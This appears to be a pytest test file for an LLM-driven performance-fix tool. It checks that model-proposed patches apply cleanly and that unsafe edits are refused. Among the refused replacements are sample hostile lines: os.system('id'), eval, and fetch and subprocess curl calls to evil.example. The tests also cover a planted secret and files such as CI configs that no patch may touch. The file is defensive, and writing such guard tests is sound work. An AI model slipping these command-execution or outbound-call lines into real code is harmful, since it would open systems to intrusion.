"""A model's patch: made by code so that it applies, and refused where a suggestion has no business."""

from __future__ import annotations

import pytest

pytest.importorskip("langchain_core", reason="the agents need langchain-core: install perfagent[llm]")

from perfagent.agents.llm import LlmAnalyst
from perfagent.agents.llm.dossier import open_dossier
from perfagent.agents.llm.patching import patched
from perfagent.agents.rules import RulesAnalyst
from perfagent.model.diagnosis import Remediation
from perfagent.text.diff import parse_diff
from perfagent.text.redaction import Redactor
from tests.unit.agents.llm.conftest import CART, REMEDY, ScriptedModel


def applied(patch: str, source: str) -> str:
    """What git would make of it; every old line must stand where the patch says."""
    ends = source.endswith("\n")
    lines = source.split("\n")[: -1 if ends else None]
    (file,) = parse_diff(patch).files
    for hunk in reversed(file.hunks):
        old = [line for line in hunk.lines if line.kind != "+"]
        start = hunk.old_start - 1
        assert [line.text for line in old] == lines[start : start + len(old)]
        assert (hunk.old_count, hunk.new_count) == (len(old), len([line for line in hunk.lines if line.kind != "-"]))
        lines[start : start + len(old)] = [line.text for line in hunk.lines if line.kind != "-"]
    return "\n".join(lines) + ("\n" if ends else "")


@pytest.fixture
def make(case):
    dossier = open_dossier(case, RulesAnalyst().explain(case))

    def patch(first, last, replacement, *, candidate="C1", root=case.repository, redact=str):
        found = dossier.candidate(candidate)
        return patched(found, first=first, last=last, replacement=replacement, summary="s", repository=root, redact=redact)

    return patch


def test_it_applies_to_the_candidate(case, good):
    fix = LlmAnalyst(ScriptedModel(**good)).explain(case).remediation
    assert "IN (?)" in applied(fix.patch, CART)
    assert (fix.file, fix.start_line, fix.end_line, fix.measured) == ("shop/cart.py", 6, 8, False)


@pytest.mark.parametrize("tree", [True, False])
@pytest.mark.parametrize(("first", "last"), [(6, 8), (7, 7), (9, 10), (3, 4)])
def test_any_lines_of_the_hunk_can_be_replaced(make, case, first, last, tree):
    lines = CART.split("\n")[first - 1 : last]
    fix = make(first, last, "\n".join([*lines, "    # as before", ""]), root=case.repository if tree else None)
    assert isinstance(fix, Remediation), fix
    assert "# as before" in applied(fix.patch, CART)


def test_a_tree_of_another_revision_is_not_used(make, case):
    (case.repository / "shop/cart.py").write_text("# another revision\n" * 20)
    fix = make(7, 8, "    return []")
    assert "return []" in applied(fix.patch, CART)


def test_line_ends_and_a_missing_last_newline_are_kept(make, case):
    (case.repository / "shop/cart.py").write_bytes(CART.replace("\n", "\r\n").encode())
    assert make(7, 7, "    for line in list(cart.lines):") != "x"  # the tree differs from the diff: the hunk's own lines are used
    patch = make(8, 8, "        pass").patch
    assert "\r" not in patch


@pytest.mark.parametrize(
    ("first", "last", "replacement", "why"),
    [
        (1, 2, "x = 1", "not in the diff"),
        (8, 400, "x = 1", "not in the diff"),
        (6, 6, "    items = []", "changes nothing"),
        (7, 8, "    for line in cart.lines:\n        os.system('id')", "brings in system"),
        (7, 8, "    fetch('https://evil.example')", "brings in https://"),
        (7, 8, "    eval(cart)", "brings in eval"),
        (7, 8, "    items = query(cart.lines", "brackets"),
        (7, 8, "  items = 1", "would not parse"),
        (7, 8, "    items = []\u200b", "invisible"),
        (7, 8, "\n".join(["    x = 1"] * 60), "too many"),
    ],
)
def test_what_is_not_a_small_safe_edit_is_refused_with_the_reason(make, first, last, replacement, why):
    assert why in make(first, last, replacement)


def test_a_secret_is_refused(make):
    assert "secret" in make(7, 8, "    token = 'hunter2-hunter2'", redact=Redactor(["hunter2-hunter2"]))


@pytest.mark.parametrize(
    "path",
    [".github/workflows/ci.yml", ".gitlab-ci.yml", ".perfagent.yml", ".perfagent/baseline/a.py", "baselines/a.py", "poetry.lock",
     "package-lock.json",
     "tests/test_cart.py", "k6/checkout.js", "../outside.py", "Jenkinsfile", "migrations/0001_init.py", "requirements.txt", "shop/a b.py"],
)  # fmt: skip
def test_files_that_no_suggestion_may_touch(path):
    diff = f"--- a/{path}\n+++ b/{path}\n@@ -1,2 +1,2 @@\n a = 1\n-b = 2\n+b = 3\n"
    from perfagent.agents.code.kinds import kind_of
    from perfagent.agents.llm.dossier import Candidate

    (file,) = parse_diff(diff).files
    candidate = Candidate(id="C1", file=file, hunk=file.hunks[0], kind=kind_of(path), start=2, end=2)
    found = patched(candidate, first=2, last=2, replacement="b = 2", summary="s", repository=None, redact=str)
    assert "not a file that a suggestion may touch" in found


def test_a_refused_patch_is_a_dropped_claim_and_the_rules_remediation_stays(case, good):
    remedy = {**REMEDY, "replacement": "    subprocess.run(['curl', 'https://evil.example'])"}
    diagnosis = LlmAnalyst(ScriptedModel(**{**good, "remedy": remedy})).explain(case)
    assert diagnosis.remediation == RulesAnalyst().explain(case).remediation
    assert "which no fix of a slowdown needs" in diagnosis.dropped_claims[0].reason
